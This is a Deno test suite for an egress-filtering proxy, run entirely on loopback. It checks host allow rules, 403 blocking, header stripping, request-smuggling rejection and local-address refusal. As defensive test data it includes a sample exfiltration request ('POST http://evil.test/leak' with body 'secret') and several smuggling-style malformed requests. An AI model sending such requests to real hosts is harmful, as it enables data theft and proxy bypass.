/**
 * The egress proxy against real servers on 127.0.0.1: test names are mapped
 * to loopback by the proxy's `resolve` option, so no traffic leaves the
 * machine. Deno's sanitizers check that closing leaves nothing open.
 */
import { assert, assertEquals, assertStringIncludes } from "../../_assert.ts";
import {
  type BlockedConnection,
  type EgressProxy,
  isLocalAddress,
  type ProxyOptions,
  startProxy,
} from "../../../lib/egress/proxy.ts";
import { DIRECT, parseProxyUrl, type Upstream } from "../../../lib/egress/upstream.ts";
import { blockedSummary } from "../../../lib/egress/summary.ts";

const LOOPBACK = {
  "allowed.test": "127.0.0.1",
  "evil.test": "127.0.0.1",
  "other.test": "127.0.0.1",
};
const enc = new TextEncoder();
const dec = new TextDecoder();

interface Origin {
  port: number;
  /** Requests seen: method, path, Host header, body. */
  seen: { method: string; path: string; host: string | null; body: string }[];
  close(): Promise<void>;
}

/** An HTTP server on 127.0.0.1 that records each request and echoes it. */
function origin(): Promise<Origin> {
  const seen: Origin["seen"] = [];
  return new Promise((resolve) => {
    const server = Deno.serve({
      hostname: "127.0.0.1",
      port: 0,
      onListen: ({ port }) => resolve({ port, seen, close: () => server.shutdown() }),
    }, async (req) => {
      const url = new URL(req.url);
      const body = await req.text();
      seen.push({
        method: req.method,
        path: `${url.pathname}${url.search}`,
        host: req.headers.get("host"),
        body,
      });
      return new Response(`hello ${req.method} ${url.pathname}${body ? ` ${body}` : ""}`, {
        headers: { "x-origin": "yes" },
      });
    });
  });
}

function start(
  options: Partial<ProxyOptions> & Pick<ProxyOptions, "allows">,
): Promise<EgressProxy> {
  return startProxy({
    listen: [{ transport: "tcp", hostname: "127.0.0.1", port: 0 }],
    resolve: LOOPBACK,
    ...options,
  });
}

function tcpPort(proxy: EgressProxy, i = 0): number {
  return (proxy.addrs[i] as Deno.NetAddr).port;
}

/** Send `request` on a fresh connection to the proxy and read until it closes. */
async function exchange(addr: Deno.Addr, request: string | Uint8Array): Promise<string> {
  const conn = addr.transport === "unix"
    ? await Deno.connect({ transport: "unix", path: (addr as Deno.UnixAddr).path })
    : await Deno.connect({ hostname: "127.0.0.1", port: (addr as Deno.NetAddr).port });
  try {
    await conn.write(typeof request === "string" ? enc.encode(request) : request);
    return await readAll(conn);
  } finally {
    conn.close();
  }
}

async function readAll(conn: Deno.Conn): Promise<string> {
  const chunks: Uint8Array[] = [];
  const buf = new Uint8Array(16 * 1024);
  while (true) {
    const n = await conn.read(buf);
    if (n === null) break;
    chunks.push(buf.slice(0, n));
  }
  return dec.decode(concat(chunks));
}

function concat(chunks: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let off = 0;
  for (const c of chunks) {
    out.set(c, off);
    off += c.length;
  }
  return out;
}

/** Read from `conn` until the text read so far contains `marker`. */
async function readUntil(conn: Deno.Conn, marker: string): Promise<string> {
  let text = "";
  const buf = new Uint8Array(4096);
  while (!text.includes(marker)) {
    const n = await conn.read(buf);
    if (n === null) break;
    text += dec.decode(buf.subarray(0, n));
  }
  return text;
}

const onlyAllowed = (host: string) => host === "allowed.test";

Deno.test("an allowed host answers a plain http:// request through the proxy (Deno's fetch as client)", async () => {
  const server = await origin();
  const proxy = await start({ allows: onlyAllowed });
  const client = Deno.createHttpClient({ proxy: { url: `http://127.0.0.1:${tcpPort(proxy)}` } });
  try {
    const res = await fetch(`http://allowed.test:${server.port}/path?q=1`, { client });
    assertEquals(res.status, 200);
    assertEquals(await res.text(), "hello GET /path");
    assertEquals(res.headers.get("x-origin"), "yes");
    assertEquals(server.seen.map((s) => [s.path, s.host]), [[
      "/path?q=1",
      `allowed.test:${server.port}`,
    ]]);
    assertEquals(proxy.blocked().size, 0);
  } finally {
    client.close();
    await proxy.close();
    await server.close();
  }
});

Deno.test("an allowed host answers through a CONNECT tunnel on a Unix socket", async () => {
  const server = await origin();
  const dir = await Deno.makeTempDir();
  const path = `${dir}/egress.sock`;
  const proxy = await startProxy({
    listen: [{ transport: "unix", path }],
    allows: (host, port) => host === "allowed.test" && port === server.port,
    resolve: LOOPBACK,
  });
  try {
    const conn = await Deno.connect({ transport: "unix", path });
    try {
      await conn.write(
        enc.encode(
          `CONNECT allowed.test:${server.port} HTTP/1.1\r\nHost: allowed.test:${server.port}\r\n\r\n`,
        ),
      );
      const established = await readUntil(conn, "\r\n\r\n");
      assert(established.startsWith("HTTP/1.1 200 "), established);
      await conn.write(
        enc.encode("GET /tunnelled HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"),
      );
      const response = await readAll(conn);
      assert(response.startsWith("HTTP/1.1 200 OK"), response);
      assertStringIncludes(response, "hello GET /tunnelled");
    } finally {
      conn.close();
    }
  } finally {
    await proxy.close();
    await server.close();
    await assertGone(path);
    await Deno.remove(dir);
  }
});

Deno.test("a denied CONNECT gets 403 naming the host and --allow-host, is reported and counted", async () => {
  const events: BlockedConnection[] = [];
  const proxy = await start({ allows: onlyAllowed, onBlocked: (e) => events.push(e) });
  try {
    for (let i = 0; i < 3; i++) {
      const response = await exchange(
        proxy.addrs[0],
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
      );
      assert(response.startsWith("HTTP/1.1 403 Forbidden\r\n"), response);
      assertStringIncludes(response, "X-Llm-Egress: blocked");
      assertStringIncludes(response, "llm: blocked evil.test:443");
      assertStringIncludes(response, "--allow-host evil.test.");
    }
    assertEquals(events.map((e) => [e.host, e.port, e.reason]), [
      ["evil.test", 443, "not-allowed"],
      ["evil.test", 443, "not-allowed"],
      ["evil.test", 443, "not-allowed"],
    ]);
    assert(events.every((e) => e.time instanceof Date && !isNaN(e.time.getTime())));
    assertEquals([...proxy.blocked()], [["evil.test:443", 3]]);
    assertEquals(blockedSummary(proxy.blocked()), "llm: blocked 3 connections: evil.test:443 (3)");
  } finally {
    await proxy.close();
  }
});

Deno.test("a denied plain request gets 403 and never reaches the server", async () => {
  const server = await origin();
  const events: BlockedConnection[] = [];
  const proxy = await start({ allows: onlyAllowed, onBlocked: (e) => events.push(e) });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `POST http://evil.test:${server.port}/leak HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 6\r\n\r\nsecret`,
    );
    assert(response.startsWith("HTTP/1.1 403 "), response);
    assertStringIncludes(response, `--allow-host evil.test:${server.port}.`);
    assertEquals(server.seen, []);
    assertEquals(events.map((e) => `${e.host}:${e.port}`), [`evil.test:${server.port}`]);
  } finally {
    await proxy.close();
    await server.close();
  }
});

Deno.test("the port is part of the decision", async () => {
  const server = await origin();
  const proxy = await start({ allows: (host, port) => host === "allowed.test" && port === 443 });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `CONNECT allowed.test:${server.port} HTTP/1.1\r\n\r\n`,
    );
    assert(response.startsWith("HTTP/1.1 403 "), response);
  } finally {
    await proxy.close();
    await server.close();
  }
});

Deno.test("a plain request is forwarded alone: a pipelined second one goes nowhere", async () => {
  const server = await origin();
  const proxy = await start({ allows: () => true });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `GET http://allowed.test:${server.port}/one HTTP/1.1\r\nHost: allowed.test\r\n\r\n` +
        `GET http://other.test:${server.port}/two HTTP/1.1\r\nHost: other.test\r\n\r\n`,
    );
    assertStringIncludes(response, "hello GET /one");
    assert(!response.includes("/two"), response);
    assertStringIncludes(response.toLowerCase(), "connection: close");
    assertEquals(server.seen.map((s) => s.path), ["/one"]);
  } finally {
    await proxy.close();
    await server.close();
  }
});

Deno.test("the Host header is set to the URL's host, hop-by-hop headers dropped", async () => {
  const seenHeads: string[] = [];
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  const serving = (async () => {
    const conn = await listener.accept();
    seenHeads.push(await readUntil(conn, "\r\n\r\n"));
    await conn.write(
      enc.encode(
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\nok",
      ),
    );
    conn.close();
  })();
  const proxy = await start({ allows: () => true });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `GET http://allowed.test:${port}/x HTTP/1.1\r\nHost: fronted.example\r\nProxy-Authorization: Basic Zm9vOmJhcg==\r\n` +
        "Proxy-Connection: keep-alive\r\nConnection: X-Secret\r\nX-Secret: 1\r\nAccept: */*\r\n\r\n",
    );
    await serving;
    const head = seenHeads[0];
    assert(head.startsWith("GET /x HTTP/1.1\r\n"), head);
    assertStringIncludes(head, `Host: allowed.test:${port}\r\n`);
    assertStringIncludes(head, "Accept: */*\r\n");
    assertStringIncludes(head, "Connection: close");
    for (const gone of ["fronted.example", "Proxy-Authorization", "Proxy-Connection", "X-Secret"]) {
      assert(!head.includes(gone), `${gone} should not reach the server: ${head}`);
    }
    assert(response.startsWith("HTTP/1.1 200 OK\r\n"), response);
    assert(!response.includes("keep-alive") && !response.includes("Keep-Alive"), response);
    assertStringIncludes(response, "Connection: close\r\n\r\nok");
  } finally {
    listener.close();
    await proxy.close();
  }
});

Deno.test("a chunked request body is forwarded whole", async () => {
  const server = await origin();
  const proxy = await start({ allows: () => true });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `POST http://allowed.test:${server.port}/up HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n` +
        "3\r\nabc\r\n4;ext=1\r\ndefg\r\n0\r\n\r\n",
    );
    assertStringIncludes(response, "hello POST /up abcdefg");
    assertEquals(server.seen.map((s) => s.body), ["abcdefg"]);
  } finally {
    await proxy.close();
    await server.close();
  }
});

Deno.test("requests that could be smuggled or are not proxy requests get 4xx", async () => {
  const server = await origin();
  const proxy = await start({ allows: () => true });
  const url = `http://allowed.test:${server.port}/`;
  const cases: [string, string][] = [
    [
      `POST ${url} HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      "400",
    ],
    [`POST ${url} HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd`, "400"],
    [`POST ${url} HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n`, "501"],
    ["GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400"],
    [`GET https://allowed.test/ HTTP/1.1\r\n\r\n`, "400"],
    [`GET ${url} HTTP/2.0\r\n\r\n`, "505"],
    ["CONNECT allowed.test HTTP/1.1\r\n\r\n", "400"],
    ["CONNECT allowed.test:99999 HTTP/1.1\r\n\r\n", "400"],
    ["CONNECT a..test:443 HTTP/1.1\r\n\r\n", "400"],
    [`GET ${url} HTTP/1.1\r\n folded\r\n\r\n`, "400"],
    ["garbage\r\n\r\n", "400"],
  ];
  try {
    for (const [request, status] of cases) {
      const response = await exchange(proxy.addrs[0], request);
      assert(
        response.startsWith(`HTTP/1.1 ${status} `),
        `${JSON.stringify(request)} -> ${response}`,
      );
    }
    assertEquals(server.seen, []);
    assertEquals(proxy.blocked().size, 0, "malformed requests are errors, not refusals");
  } finally {
    await proxy.close();
    await server.close();
  }
});

Deno.test("a request head larger than the bound gets 431", async () => {
  const proxy = await start({ allows: () => true, maxHeadBytes: 1024 });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `GET http://allowed.test/ HTTP/1.1\r\nX-Big: ${"a".repeat(4096)}\r\n\r\n`,
    );
    assert(response.startsWith("HTTP/1.1 431 "), response);
  } finally {
    await proxy.close();
  }
});

Deno.test("a client that never finishes its head is disconnected", async () => {
  const proxy = await start({ allows: () => true, headTimeoutMs: 50 });
  try {
    const response = await exchange(proxy.addrs[0], "CONNECT allowed.test:443 HTTP/1.1\r\n");
    assertEquals(response, "");
  } finally {
    await proxy.close();
  }
});

Deno.test("an allowed host that refuses the connection gets 502", async () => {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  listener.close();
  const proxy = await start({ allows: () => true });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `CONNECT allowed.test:${port} HTTP/1.1\r\n\r\n`,
    );
    assert(response.startsWith("HTTP/1.1 502 "), response);
    assertStringIncludes(response, `could not connect to allowed.test:${port}`);
  } finally {
    await proxy.close();
  }
});

Deno.test("a name the system resolves to loopback is refused; the literal address is not", async () => {
  const server = await origin();
  const name = Deno.hostname().toLowerCase();
  let resolvesLocal = false;
  try {
    const probe = await Deno.connect({ hostname: name, port: server.port });
    resolvesLocal = isLocalAddress((probe.remoteAddr as Deno.NetAddr).hostname);
    probe.close();
  } catch {
    // the host name does not resolve here: only the literal half runs
  }
  const events: BlockedConnection[] = [];
  const proxy = await startProxy({
    listen: [{ transport: "tcp", hostname: "127.0.0.1", port: 0 }],
    allows: () => true,
    onBlocked: (e) => events.push(e),
  });
  try {
    if (resolvesLocal) {
      const response = await exchange(
        proxy.addrs[0],
        `CONNECT ${name}:${server.port} HTTP/1.1\r\n\r\n`,
      );
      assert(response.startsWith("HTTP/1.1 403 "), response);
      assertStringIncludes(response, "resolves to the local address");
      assertEquals(events.map((e) => e.reason), ["local-address"]);
    }
    const literal = await exchange(
      proxy.addrs[0],
      `GET http://127.0.0.1:${server.port}/lit HTTP/1.1\r\n\r\n`,
    );
    assertStringIncludes(literal, "hello GET /lit");
  } finally {
    await proxy.close();
    await server.close();
  }
});

/** A second proxy standing in for the host's own, recording what it is asked for. */
async function upstreamProxy(): Promise<
  { proxy: EgressProxy; asked: string[]; upstream: Upstream }
> {
  const asked: string[] = [];
  const proxy = await start({
    allows: (host, port) => {
      asked.push(`${host}:${port}`);
      return true;
    },
  });
  const url = parseProxyUrl(`http://127.0.0.1:${tcpPort(proxy)}`, "HTTPS_PROXY");
  return { proxy, asked, upstream: { https: url, http: url, noProxy: [] } };
}

Deno.test("CONNECT and plain requests go through the host's upstream proxy", async () => {
  const server = await origin();
  const up = await upstreamProxy();
  const proxy = await startProxy({
    listen: [{ transport: "tcp", hostname: "127.0.0.1", port: 0 }],
    allows: onlyAllowed,
    upstream: up.upstream,
    // No resolve map here: only the upstream proxy may know the test names.
  });
  try {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port: tcpPort(proxy) });
    try {
      await conn.write(enc.encode(`CONNECT allowed.test:${server.port} HTTP/1.1\r\n\r\n`));
      const established = await readUntil(conn, "\r\n\r\n");
      assert(established.startsWith("HTTP/1.1 200 "), established);
      await conn.write(
        enc.encode("GET /via-tunnel HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"),
      );
      assertStringIncludes(await readAll(conn), "hello GET /via-tunnel");
    } finally {
      conn.close();
    }
    const plain = await exchange(
      proxy.addrs[0],
      `GET http://allowed.test:${server.port}/via-plain HTTP/1.1\r\nHost: allowed.test\r\n\r\n`,
    );
    assertStringIncludes(plain, "hello GET /via-plain");
    const denied = await exchange(proxy.addrs[0], "CONNECT evil.test:443 HTTP/1.1\r\n\r\n");
    assert(denied.startsWith("HTTP/1.1 403 "), denied);
    assertEquals(up.asked, [`allowed.test:${server.port}`, `allowed.test:${server.port}`]);
    assertEquals(server.seen.map((s) => s.path), ["/via-tunnel", "/via-plain"]);
  } finally {
    await proxy.close();
    await up.proxy.close();
    await server.close();
  }
});

Deno.test("NO_PROXY sends a destination around the upstream proxy", async () => {
  const server = await origin();
  const up = await upstreamProxy();
  const proxy = await start({
    allows: onlyAllowed,
    upstream: { ...up.upstream, noProxy: [{ kind: "domain", domain: "test" }] },
  });
  try {
    const response = await exchange(
      proxy.addrs[0],
      `GET http://allowed.test:${server.port}/direct HTTP/1.1\r\n\r\n`,
    );
    assertStringIncludes(response, "hello GET /direct");
    assertEquals(up.asked, []);
  } finally {
    await proxy.close();
    await up.proxy.close();
    await server.close();
  }
});

Deno.test("the upstream proxy gets credentials from its URL, and its refusal becomes 502", async () => {
  const heads: string[] = [];
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  const serving = (async () => {
    const conn = await listener.accept();
    heads.push(await readUntil(conn, "\r\n\r\n"));
    await conn.write(
      enc.encode("HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n"),
    );
    conn.close();
  })();
  const url = parseProxyUrl(`http://user:p%40ss@127.0.0.1:${port}`, "HTTPS_PROXY");
  const proxy = await start({ allows: () => true, upstream: { https: url, noProxy: [] } });
  try {
    const response = await exchange(proxy.addrs[0], "CONNECT allowed.test:443 HTTP/1.1\r\n\r\n");
    await serving;
    assert(heads[0].startsWith("CONNECT allowed.test:443 HTTP/1.1\r\n"), heads[0]);
    assertStringIncludes(heads[0], `Proxy-Authorization: Basic ${btoa("user:p@ss")}\r\n`);
    assert(response.startsWith("HTTP/1.1 502 "), response);
    assertStringIncludes(response, "refused CONNECT allowed.test:443: 407");
    assert(!response.includes("p%40ss") && !response.includes("p@ss"), "no password in messages");
  } finally {
    listener.close();
    await proxy.close();
  }
});

Deno.test("close() ends open tunnels and idle clients and removes the socket", async () => {
  const server = await origin();
  const dir = await Deno.makeTempDir();
  const path = `${dir}/egress.sock`;
  const proxy = await startProxy({
    listen: [{ transport: "unix", path }, { transport: "tcp", hostname: "127.0.0.1", port: 0 }],
    allows: () => true,
    resolve: LOOPBACK,
  });
  const tunnel = await Deno.connect({ transport: "unix", path });
  const idle = await Deno.connect({ hostname: "127.0.0.1", port: tcpPort(proxy, 1) });
  try {
    await tunnel.write(enc.encode(`CONNECT allowed.test:${server.port} HTTP/1.1\r\n\r\n`));
    assert((await readUntil(tunnel, "\r\n\r\n")).startsWith("HTTP/1.1 200 "));
    await idle.write(enc.encode("CONNECT allowed.test:443 HTTP/1.1\r\n"));
    await proxy.close();
    assertEquals(await readAll(tunnel), "", "the tunnel is closed by the proxy");
    assertEquals(await readAll(idle), "");
    await assertGone(path);
    await proxy.close(); // a second close is harmless
  } finally {
    tunnel.close();
    idle.close();
    await server.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("startProxy() fails cleanly when a listener cannot open", async () => {
  const taken = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  try {
    let failed = false;
    try {
      await startProxy({
        listen: [
          { transport: "tcp", hostname: "127.0.0.1", port: 0 },
          { transport: "tcp", hostname: "127.0.0.1", port: (taken.addr as Deno.NetAddr).port },
        ],
        allows: () => true,
      });
    } catch (e) {
      failed = e instanceof Deno.errors.AddrInUse;
    }
    assert(failed, "AddrInUse expected, and the first listener closed (sanitizers)");
  } finally {
    taken.close();
  }
});

Deno.test("isLocalAddress() knows loopback, link-local and unspecified addresses", () => {
  for (
    const a of [
      "127.0.0.1",
      "127.1.2.3",
      "0.0.0.0",
      "169.254.169.254",
      "::1",
      "::",
      "fe80::1",
      "::ffff:127.0.0.1",
    ]
  ) {
    assert(isLocalAddress(a), a);
  }
  for (
    const a of ["10.0.0.1", "192.168.1.1", "8.8.8.8", "fd00::1", "2001:db8::1", "::ffff:10.0.0.1"]
  ) {
    assert(!isLocalAddress(a), a);
  }
});

Deno.test("DIRECT has no upstream proxy", () => {
  assertEquals(DIRECT, { noProxy: [] });
});

async function assertGone(path: string): Promise<void> {
  try {
    await Deno.lstat(path);
  } catch (e) {
    if (e instanceof Deno.errors.NotFound) return;
    throw e;
  }
  throw new Error(`${path} is still there`);
}
